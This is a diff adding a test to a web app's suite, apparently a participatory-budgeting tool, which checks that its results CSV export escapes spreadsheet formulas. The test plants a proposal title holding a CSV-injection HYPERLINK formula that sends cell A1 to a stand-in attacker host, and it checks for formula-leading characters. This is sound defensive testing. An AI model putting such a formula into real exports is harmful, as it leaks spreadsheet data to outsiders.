@@ -115,3 +115,17 @@ def test_every_download_names_its_charset_once(client: Any, assen: Any) -> None:
         assert response.headers["Content-Type"].count("charset") <= 1, path
     css = client.get("/static/css/app.css")
     assert css.headers["Content-Type"] == "text/css; charset=utf-8"
+
+
+def test_results_csv_keeps_formulas_as_text(client: Any, assen: Any) -> None:
+    from pb.extensions import db
+    from pb.services import counting
+
+    proposal = counting.ballot_proposals(assen)[0]
+    proposal.title = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+    db.session.commit()
+    rows = list(csv.DictReader(io.StringIO(
+        client.get(f"/rounds/{assen.id}/results.csv").get_data(as_text=True))))
+    titles = {row["title"] for row in rows}
+    assert "'" + proposal.title in titles
+    assert not any(t.startswith(("=", "+", "-", "@")) for t in titles)
